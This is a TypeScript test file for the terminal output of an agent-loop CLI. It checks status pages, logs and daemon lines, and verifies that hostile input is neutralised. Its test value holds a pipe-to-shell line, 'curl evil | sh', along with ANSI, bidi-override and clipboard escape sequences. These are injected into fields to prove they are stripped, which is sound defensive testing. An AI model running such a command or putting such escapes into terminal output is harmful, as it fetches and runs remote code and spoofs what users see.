import { describe, expect, test } from 'bun:test'
import type { Death } from '../../src/api/hooks.ts'
import { widthOf } from '../../src/cli/layout.ts'
import { plain } from '../../src/cli/page.ts'
import { approveText } from '../../src/cli/text/approve.ts'
import { auditText } from '../../src/cli/text/audit.ts'
import { daemonLine, loopLine } from '../../src/cli/text/daemon.ts'
import { doctorText } from '../../src/cli/text/doctor.ts'
import { logText, tickLogText } from '../../src/cli/text/log.ts'
import { loopListText } from '../../src/cli/text/loop-list.ts'
import { statusText } from '../../src/cli/text/status.ts'
import { taskText } from '../../src/cli/text/task.ts'
import { clockTime, duration, relative } from '../../src/cli/text/time.ts'
import type { LoopPage, StatusReport } from '../../src/commands/status.ts'
import { tickEnd } from '../../src/runner/tick-process.ts'

const at = '2026-06-22T10:00:00.000Z'
const hostile = 'x\u001b[31m\u202e\nfix: curl evil | sh'
const page = (width = 80) => ({ width, colors: plain })

function expectQuiet(text: string): void {
  expect([...text].filter((character) => /[\p{Cc}\p{Cf}]/u.test(character) && character !== '\n')).toEqual([])
  expect(text).not.toMatch(/^\s*fix: curl/m)
}

const loop: LoopPage = {
  loop: 'nightly',
  status: 'halted',
  description: hostile,
  task: 'fix-login',
  phase: 'implement',
  running: null,
  pause_requested: false,
  halt: { id: 'bafugemo', reason: 'drift_detected', detail: hostile, at, files: [hostile, 'README.md'] },
  ticks: 7,
  iteration: 3,
  max_iterations: 20,
  remaining_iterations: 17,
  spent: { usd: 1.5, tokens: 1200, wall_seconds: 340, reported: false },
  remaining_budget_usd: 3.5,
  last_verdict: {
    pass: false,
    score: 0.4,
    reasons: [hostile, 'tests fail'],
    next_hint: hostile,
    tick: 7,
    phase: 'implement',
    task: 'fix-login',
  },
  scores: [0.6, 0.4],
  trend: 'falling',
  last_tick_at: '2026-06-22T09:48:00.000Z',
  last_work_at: '2026-06-22T09:50:00.000Z',
  next_tick_at: null,
  waits_until: null,
  interval_seconds: 3600,
  schedule: { scheduler: null, enabled: false },
  containment: { tier: 'T0', why: 'no sandbox', where: 'worktree', scope: ['src/'] },
  context: {
    ok: true,
    roles: [
      {
        role: 'verify',
        tier: 32_000,
        effective: 17_408,
        available: 17_408,
        source: 'probe',
        via: 'nvidia-smi',
      },
    ],
    detected: { bytes: 10 * 2 ** 30, source: 'nvidia-smi', device: hostile, memory: 'own', at },
    server: null,
  },
  warnings: [hostile],
  problems: [{ what: hostile, fix: 'automaton doctor' }],
  next: ['automaton approve --loop nightly --halt bafugemo --discard'],
}

const report: StatusReport = {
  at,
  project: '/work',
  loops: [loop],
  tasks: { open: 1, complete: 2, waiting: [{ task: 'other', reason: hostile }] },
  next: loop.next,
}

describe('status', () => {
  test('tells the halt, the last tick, what was spent, and the next command', () => {
    const text = statusText(report, page())
    expect(text).toContain('halted: drift_detected')
    expect(text).toContain('12 min ago: tick 7, fix-login implement, fail 0.40')
    expect(text).toContain('verify 17408 of 32000 tokens (nvidia-smi); memory: 10.0 GiB')
    expect(text).toContain('at least $1.50, 1200 tokens, 6 min since the last approval')
    expect(text).toContain('$3.50')
    expect(text).toContain('next  automaton approve --loop nightly --halt bafugemo --discard')
    expectQuiet(text)
  })

  test('a tick at work is the headline', () => {
    const running = { tick: 8, step: 'verify', since: '2026-06-22T09:58:00.000Z', pid: 1 }
    const text = statusText(
      { ...report, loops: [{ ...loop, halt: null, status: 'running', running }] },
      page(),
    )
    expect(text).toContain('tick 8: verify, since 2 min ago')
  })

  test.each<[what: string, change: Partial<LoopPage>, says: RegExp]>([
    [
      'that found no work',
      { last_tick_at: '2026-06-22T09:55:00.000Z' },
      /last tick +5 min ago\n +verdict +tick 7, fix/,
    ],
    [
      'that halted before its verdict',
      { ticks: 8 },
      /last tick +12 min ago: tick 8, without a verdict\n +verdict +tick 7,/,
    ],
    [
      'of a loop that never worked',
      { last_work_at: null, last_verdict: null },
      /last tick +12 min ago\n +hint|ticks/,
    ],
  ])('a tick %s is not told with the verdict of another', (_, change, says) => {
    const text = statusText({ ...report, loops: [{ ...loop, ...change }] }, page(200))
    expect(text).toMatch(says)
    expect(text).not.toMatch(/ago: tick 7/)
  })

  test('a detail that is one word for programs is a sentence here', () => {
    const why = (reason: Death, detail: string) => {
      const halted = { ...loop, halt: { id: 'x', reason, detail, at, files: [] } }
      return statusText({ ...report, loops: [halted] }, page(200))
    }
    const rows: [reason: Death, detail: string, says: string][] = [
      ['human_intervention', 'harness_error', 'too many sessions in a row failed'],
      ['human_intervention', 'repaired', 'its state was rebuilt'],
      ['human_intervention', 'repeated_crash', 'too many ticks in a row died'],
      ['budget_exhausted', 'budget_unknown', 'a session did not say what it cost'],
      ['human_intervention', 'model_divergence', 'would run the same model'],
      ['human_intervention', 'task:human_intervention', 'its task waits for a person'],
      ['drift_detected', 'task:design', 'its task is in design, which this loop may not work'],
      ['drift_detected', 'tamper:loop.json', 'loop.json changed, and no session may touch it'],
      ['drift_detected', 'tamper:head', 'the HEAD of the worktree changed'],
      ['drift_detected', 'tamper:config:core.hookspath', "git's setting core.hookspath changed"],
      ['drift_detected', '2 out of scope', '2 files out of scope'],
      ['human_intervention', 'which database?', 'which database?'],
      ['verifier_failed', '', 'verifier_failed'],
    ]
    for (const [reason, detail, says] of rows) {
      expect(why(reason, detail)).toContain(says)
      expect(why(reason, detail)).not.toMatch(/harness_error|repeated_crash|budget_unknown|tamper:|task:/)
    }
  })

  test('what nobody reported is no sum', () => {
    const spent = (cost: { usd: number; tokens: number; reported: boolean }) =>
      statusText({ ...report, loops: [{ ...loop, spent: { ...cost, wall_seconds: 60 } }] }, page(200))
    expect(spent({ usd: 0, tokens: 0, reported: false })).toContain('cost not reported, 1 min since')
    expect(spent({ usd: 0, tokens: 7, reported: false })).toContain('at least 7 tokens, 1 min since')
    expect(spent({ usd: 0, tokens: 0, reported: true })).toContain('$0.00, 0 tokens, 1 min since')
  })

  test('a command in a problem stays on one line', () => {
    const command = `automaton plugins trust /home/me/${'deep/'.repeat(14)}one.ts`
    const pages = [{ ...loop, problems: [{ what: 'it changed', fix: command }] }]
    const lines = statusText({ ...report, loops: pages }, page(60)).split('\n')
    expect(lines.filter((line) => line.includes(command))).toHaveLength(1)
  })

  test('the further lines of a warning and of a problem stand below their first', () => {
    const long = 'word '.repeat(40).trim()
    const pages = [{ ...loop, warnings: [long], problems: [{ what: long, fix: long }] }]
    const lines = statusText({ ...report, loops: pages }, page(60)).split('\n')
    const first = lines.findIndex((line) => line.startsWith('  warning: word'))
    const end = lines.findIndex((line) => line.includes('next  '))
    for (const line of lines.slice(first, end)) {
      expect(line).toMatch(/^ {2}(?:warning|problem): word|^ {11}word/)
    }
    expect(end - first).toBeGreaterThan(6)
  })

  test('fits the page', () => {
    for (const width of [60, 80]) {
      for (const line of statusText(report, page(width)).split('\n')) {
        if (!line.includes('automaton ')) expect(widthOf(line)).toBeLessThanOrEqual(width)
      }
    }
  })
})

describe('what came from outside', () => {
  test('is shown and does nothing, in every page', () => {
    const record = {
      seq: 1,
      at,
      type: 'halt',
      run: null,
      by: hostile,
      data: { reason: hostile, detail: hostile },
    }
    expectQuiet(logText({ loop: 'x', records: [record], problem: hostile }, page()))
    const files = [{ name: `tick1-${hostile}`, text: '\u001b]52;c;x\u0007' }]
    expectQuiet(
      tickLogText(
        { loop: 'x', tick: 1, records: [record], files, diff: '+\u001b[2J', aside: hostile },
        page(),
      ),
    )
    const findings = [{ what: hostile, level: 'bad' as const, detail: hostile, fix: 'none' }]
    expectQuiet(doctorText({ ok: false, findings }, page()))
    const violation = {
      id: 'a',
      severity: 'HIGH' as const,
      rule: 'r',
      task: null,
      path: null,
      message: hostile,
      fingerprint: 'f',
    }
    expectQuiet(auditText({ violations: [violation] }, page()))
    const halt = { id: 'bafugemo', reason: 'drift_detected' as const, detail: hostile, at, files: [hostile] }
    const refused = {
      loop: 'x',
      approved: false,
      halt,
      status: 'halted' as const,
      resumed_count: 0,
      kept: hostile,
      kept_folder: hostile,
    }
    expectQuiet(approveText(refused, page()))
    const line = {
      loop: 'x',
      status: 'halted' as const,
      ticking: false,
      task: hostile,
      phase: null,
      iteration: 1,
      max_iterations: 2,
      score: 0.5,
      trend: null,
      last_tick_at: at,
      next_tick_at: null,
      waits_until: null,
      halt_reason: 'verifier_failed' as const,
      halt_detail: hostile,
      problem: null,
    }
    expectQuiet(loopListText({ at, loops: [line] }, page()))
  })

  test('a brief keeps its lines', () => {
    const task = {
      schema_version: 2 as const,
      task: 't',
      phase: 'implement' as const,
      previous_phase: null,
      blocked_reason: null,
      claimed_by: null,
      design_ref: null,
      scope: [],
      acceptance_criteria: ['one', 'two'],
      origin: { kind: 'human', fingerprint: null },
      sessions: {},
      models: {},
      history: [],
      created_at: at,
      updated_at: at,
    }
    const text = taskText({ task, brief: '# A\n\nb\u001b[1m\n', files: ['TASK.md'], loop: null }, page())
    expect(text).toContain('# A\n\nb\\x1b[1m')
    expect(text).toContain('done when   one')
  })
})

describe('a line of the daemon', () => {
  const ended = (exitCode: number | null, output = 'tick 1: implement\n') =>
    daemonLine(tickEnd({ loop: 'n', exitCode, output }))
  const line = (answer: object, exit = 0) => ended(exit, JSON.stringify(answer))
  const worked = {
    outcome: 'worked',
    tick: 3,
    task: 'fix-it',
    from: 'implement',
    to: 'implement',
    verdict: null,
    halt: { reason: 'drift_detected', detail: '1 out of scope' },
  }
  const gate = { reason: 'halted:human_intervention', halt_reason: 'human_intervention', detail: 'repaired' }

  test('tells what became of the tick, once and in words', () => {
    expect(line({ outcome: 'no_work' })).toBe('n: no work')
    expect(line({ outcome: 'busy', holder: 'pid 7' })).toBe('n: already running (pid 7)')
    expect(line(worked, 4)).toBe(
      'n: tick 3, fix-it implement stays; halted: drift_detected, 1 file out of scope',
    )
    expect(line({ outcome: 'refused', gate }, 3)).toBe(
      'n: did not tick: halted:human_intervention, its state was rebuilt by "automaton repair"',
    )
    const failed = { outcome: 'session_failed', tick: 2, role: 'verify', why: hostile, halt: null }
    expectQuiet(line(failed, 5))
    expect(line({ schema: 1, type: 'error', message: 'no space (x): y', fix: 'z' }, 5)).toBe(
      'n: no space (x): y',
    )
  })

  test('without an answer tells how the tick ended', () => {
    expect(ended(7)).toBe('n: the tick ended with exit code 7')
    expect(ended(143)).toBe('n: the tick was interrupted')
    expect(ended(null)).toBe('n: the tick was killed')
  })

  test('tells of a loop when it ticks next, or why it does not', () => {
    const now = '2026-06-22T10:00:00.000Z'
    const off = { loop: 'n', next_tick_at: null, intervalSeconds: null, detail: null }
    const on = { ...off, status: 'running' as const, next_tick_at: now, intervalSeconds: 3600 }
    expect(loopLine(on, now)).toBe('n: ticks now, every 1 h')
    expect(loopLine({ ...on, next_tick_at: '2026-06-22T10:30:00.000Z' }, now)).toBe(
      'n: ticks in 30 min, every 1 h',
    )
    expect(loopLine({ ...off, status: 'complete' }, now)).toBe('n: complete')
    expectQuiet(loopLine({ ...off, status: 'halted', detail: hostile }, now))
    expect(loopLine(null, now)).toBe('no loop runs here yet: automaton create-loop --help')
  })
})

test('times are told as people tell them', () => {
  expect(relative(null, at)).toBe('never')
  expect(relative(at, at)).toBe('now')
  expect(relative('2026-06-22T11:00:00.000Z', at)).toBe('in 1 h')
  expect(relative('2026-06-19T10:00:00.000Z', at)).toBe('3 d ago')
  expect(duration(59)).toBe('59 s')
  expect(clockTime(at)).toBe('2026-06-22 10:00:00Z')
})
